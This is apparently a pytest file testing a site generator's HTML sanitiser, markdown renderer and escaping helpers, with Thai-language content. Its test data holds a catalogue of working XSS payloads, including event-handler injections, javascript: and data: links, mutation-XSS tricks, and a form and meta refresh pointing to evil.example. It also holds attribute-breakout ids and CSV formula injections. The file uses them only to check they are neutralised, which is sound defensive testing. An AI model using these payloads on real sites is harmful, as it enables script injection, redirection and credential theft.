"""The one sanitiser, the story body renderer and the escaping helpers, with hostile input."""

import json
import re

import pytest
import yaml
from selectolax.lexbor import LexborHTMLParser

from generator.body import render_body
from generator.escape import csv_cell, md_text, page_meta, script_json, xml_text
from generator.sanitize import dropped_markup, sanitize_html, skipped_headings

BODY_VECTORS = {
    "script": "<script>window.__pwned=1</script>",
    "img-onerror": '<img src=x onerror="window.__pwned=1">',
    "svg-onload": "<svg onload=window.__pwned=1></svg>",
    "svg-script": "<svg><script>window.__pwned=1</script></svg>",
    "iframe": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "details": '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
    "md-javascript": "[click](javascript:window.__pwned=1)",
    "a-javascript": '<a href="JaVaScRiPt:window.__pwned=1">x</a>',
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "style": "<style>body{display:none}</style>",
    "form": '<form action="https://evil.example"><input type=password name=p></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "attr-list-img": '![x](a.png){ onerror="window.__pwned=1" }',
    "attr-list-p": 'text\n{: onmouseover="window.__pwned=1" style="position:fixed;top:0" }',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "comment": "<!--><img src=x onerror=window.__pwned=1>-->",
    "img-data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "id-clobber": '<p id="__search">x</p><p class="md-header">y</p>',
}


@pytest.mark.parametrize("name", sorted(BODY_VECTORS))
def test_hostile_body_is_inert(name):
    html = render_body(BODY_VECTORS[name])
    tree = LexborHTMLParser(html)
    for node in tree.css("*"):
        assert node.tag not in {"script", "style", "iframe", "object", "embed", "form", "input",
                                "meta", "base", "svg", "math", "noscript"}, html
        for attr, value in node.attributes.items():
            assert not attr.startswith("on") and attr != "style", html
            if attr in ("href", "src"):
                assert not re.match(r"\s*(javascript|data|vbscript):", value or "", re.I), html
            if attr == "id":
                assert not value.startswith(("__", "md-")), html
            if attr == "class":
                assert "md-header" not in value, html
    assert "__pwned" not in (tree.body.text() if tree.body else "") or "<" not in html.split("__pwned")[0][-1:]


def test_harmless_markup_is_kept():
    body = """## หัวข้อ

| ก | ข |
|:--|--:|
| 1 | 2 |

> คำพูด

- หนึ่ง
- สอง

`code` และ [ลิงก์](https://example.org) [ภายใน](../x.md#a) [อีเมล](mailto:a@b.org) [ที่นี่](#หัวข้อ)

![รูป](photo.jpg){ width=300 }

!!! note "หมายเหตุ"
    ข้อความ

<details><summary>ดูเพิ่ม</summary>รายละเอียด</details>

<figure><img src="a.png" alt="ก"><figcaption>คำอธิบาย</figcaption></figure>
"""
    tree = LexborHTMLParser(render_body(body))
    assert tree.css_first("h2").attributes["id"] == "หัวข้อ"
    assert [td.attributes.get("style") for td in tree.css("td")] == ["text-align: left;", "text-align: right;"]
    assert tree.css_first("blockquote") and len(tree.css("li")) == 2 and tree.css_first("code")
    assert [a.attributes["href"] for a in tree.css("p a")] == [
        "https://example.org", "../x.html#a", "mailto:a@b.org", "#หัวข้อ"]
    img = tree.css_first("p img")
    assert img.attributes == {"alt": "รูป", "src": "photo.jpg", "width": "300"}
    assert tree.css_first("div.admonition.note p.admonition-title").text() == "หมายเหตุ"
    assert tree.css_first("details summary").text() == "ดูเพิ่ม"
    assert tree.css_first("figure figcaption").text() == "คำอธิบาย"


def test_body_headings_never_take_the_templates_ids():
    html = render_body("## Related\n\n## Related\n\n## เรื่อง", {"เรื่อง"})
    ids = re.findall(r' id="([^"]+)"', html)
    assert len(set(ids)) == 3 and not {"related", "เรื่อง"} & set(ids)
    assert re.findall(r' href="#([^"]+)"', html) == ids


@pytest.mark.parametrize("anchor", ['x"autofocus/onfocus=alert(1)//', "x'y", "a<b", "a>b", "a&b",
                                    "a b", "a\u3000b", "a\x01b"])
def test_ids_that_could_leave_their_attribute_are_dropped_and_named(anchor):
    from html import escape
    raw = f'<h2 id="{escape(anchor)}">หัวข้อ</h2>\n\n## ข {{: #{anchor.replace(" ", "-")} }}\n'
    assert 'id="' not in render_body(raw, ()).split("<h2>", 1)[1].split("</h2>", 1)[0]
    assert [d.en for d in dropped_markup(raw)][0] == 'attribute "id" of <h2> is removed'


def test_table_of_contents_escapes_ids_read_by_parsing():
    from generator.engine.plugins import _headings
    html = '<h2 id="a&quot;b"><em>x</em></h2><h2 id="c">y</h2>'   # ids as nh3 writes them
    assert _headings(html) == [(2, "a&quot;b", "x"), (2, "c", "y")]


def test_check_names_what_the_sanitiser_drops_with_lines():
    body = "ข้อความ\n\n<script>x</script>\n\n![a](b.png){ onerror=x width=3 }\n\n" \
           "[x](javascript:alert(1))\n\n```\n<script>shown as code</script>\n```\n\n`<iframe>`\n" \
           "<a href='https://ok.example' onclick='x'>ok</a> <https://auto.example>\n<b>ok</b>"
    found = [(d.line, d.en) for d in dropped_markup(body, first_line=8)]
    assert found == [
        (10, "raw HTML <script> is removed"),
        (12, 'attribute "onerror" in { … } is removed'),
        (14, 'a link to "javascript:" is removed (only http, https, mailto and relative links)'),
        (21, 'attribute "onclick" of <a> is removed'),
    ]
    assert all(d.th for d in dropped_markup(body))
    assert dropped_markup("เรื่องธรรมดา ไม่มีแท็ก 1 < 2") == []


def test_sanitize_drops_unknown_classes_and_keeps_ours():
    html = sanitize_html('<div class="admonition warning md-typeset x"><p class="admonition-title">t</p></div>'
                         '<code class="language-python evil">x</code>')
    assert 'class="admonition warning"' in html and 'class="language-python"' in html


@pytest.mark.parametrize("text", ["*Bold* _x_ [y](z) #h <b>", "1. ไม่ใช่รายการ", "- ไม่ใช่รายการ",
                                  "> ไม่ใช่คำพูด", "a|b", "{ onerror=x }", "&amp; ตามที่เขียน",
                                  "\\`code`", "=", ": def"])
def test_md_text_shows_as_written(text):
    import markdown

    html = markdown.markdown(f"# {md_text(text)}\n\n{md_text(text)}\n\n| {md_text(text)} |\n|---|\n| x |",
                             extensions=["attr_list", "tables", "def_list", "toc", "md_in_html"])
    tree = LexborHTMLParser(html)
    assert tree.css_first("h1").text() == text
    assert tree.css_first("p").text() == text
    assert tree.css_first("th").text() == text
    assert tree.css("ol, ul, blockquote, dl, script, b, a") == []


def test_page_meta_cannot_add_keys():
    text = str(page_meta(title='x"\ndraft: true\n<script>', description="a: b"))
    data = yaml.safe_load(text.strip().strip("-"))
    assert data == {"title": 'x" draft: true <script>', "description": "a: b"}


def test_script_json_and_xml_and_csv():
    value = {"t": "</script><script>alert(1)</script> & \u2028"}
    out = script_json(value)
    assert "</" not in out and "<" not in out and json.loads(out) == value
    assert xml_text('a"b<c>&\x01') == "a&quot;b&lt;c&gt;&amp;"
    assert [csv_cell(v) for v in ("=1+1", "+x", "-3", "@SUM(A1)", "ปกติ", 5)] == \
        ["'=1+1", "'+x", "-3", "'@SUM(A1)", "ปกติ", 5]


def test_footnotes_keep_their_text_in_thai_and_pass_check():
    body = "ข้อความ[^1] ต่อ[^note]\n\n[^1]: เชิงอรรถแรก note: ไม่ใช่ลิงก์\n[^note]: เชิงอรรถสอง\n"
    html = render_body(body, ())
    tree = LexborHTMLParser(html)
    assert [li.text(deep=True).strip().rstrip("↩").strip() for li in tree.css("div.footnote li")] == \
        ["เชิงอรรถแรก note: ไม่ใช่ลิงก์", "เชิงอรรถสอง"]
    assert tree.css_first("a.footnote-backref").attributes["title"] == "กลับไปที่อ้างอิงเชิงอรรถที่ 1"
    assert tree.css_first("sup a.footnote-ref").attributes["href"] == "#fn:1"
    assert dropped_markup(body) == []


def test_check_names_headings_that_skip_a_level():
    """Under the page's h1 title a body heading of level 4 fails axe-core's heading-order."""
    body = "ข้อความ\n\n#### ย่อย\n\n##### ย่อยลง\n\n```\n###### in code\n```\n\n## กลับ\n\n> #### ในคำพูด\n"
    assert [(d.line, d.en) for d in skipped_headings(body, first_line=10)] == [
        (12, "heading level 4 follows level 1: a level is skipped"),
        (22, "heading level 4 follows level 2: a level is skipped")]
    assert skipped_headings("## หนึ่ง\n\n### สอง\n\n## สาม\n\n#แท็ก\n\n   ### ไม่ใช่หัวข้อ\n") == []


def test_a_long_list_or_table_of_links_is_not_slow_markup():
    """Python-Markdown reads links again through the rest of a paragraph (a paragraph of 1,000
    links: 15 s), but a list item or a table cell on its own (1,000 of them: 0.2 s): only the
    paragraph is an error, and a list right after a paragraph's line is part of it."""
    from types import SimpleNamespace

    from generator.errors import Problems
    from generator.sanitize import slow_markup

    links = [f"ชาวบ้าน [ลิงก์ {i}](https://example.org/{i})" for i in range(1000)]
    bodies = {
        "list": "\n".join(f"- {x}" for x in links),
        "numbered": "\n".join(f"{i}. {x}" for i, x in enumerate(links, 1)),
        "table": "| a | b |\n|---|---|\n" + "\n".join(f"| {x} | x |" for x in links),
        "quoted list": "\n".join(f"> - {x}" for x in links),
        "paragraph": "\n".join(links),
        "text, then a list": "ย่อหน้า\n" + "\n".join(f"- {x}" for x in links),
        "quoted paragraph": "\n".join(f"> {x}" for x in links),
    }
    problems = Problems()
    slow_markup([SimpleNamespace(source=name, body=body, body_line=1)
                 for name, body in bodies.items()], problems)
    assert [e.path for e in problems.errors] == ["paragraph", "text, then a list", "quoted paragraph"]


def test_finding_dropped_markup_is_linear_in_unclosed_tags(monkeypatch):
    """The standard library's HTMLParser scans the rest of the text again for each '<' of
    `<a <a <a …` (60 kB took 27 s in check, 400 kB hours): such a '<', which starts no tag,
    never reaches it; a script before them is still found."""
    from generator import sanitize

    parsed, scan = [], sanitize._Finder.scan
    monkeypatch.setattr(sanitize._Finder, "scan", lambda self, text: parsed.append(text) or scan(self, text))
    body = '<img alt="a<b" src=x onerror=alert(1)>\n\n' + "<a " * 30000
    found = dropped_markup(body)
    assert [(d.line, d.en) for d in found] == [(1, 'attribute "onerror" of <img> is removed')]
    assert parsed[0].count("<a ") == 1   # (the last: no "<" after it)
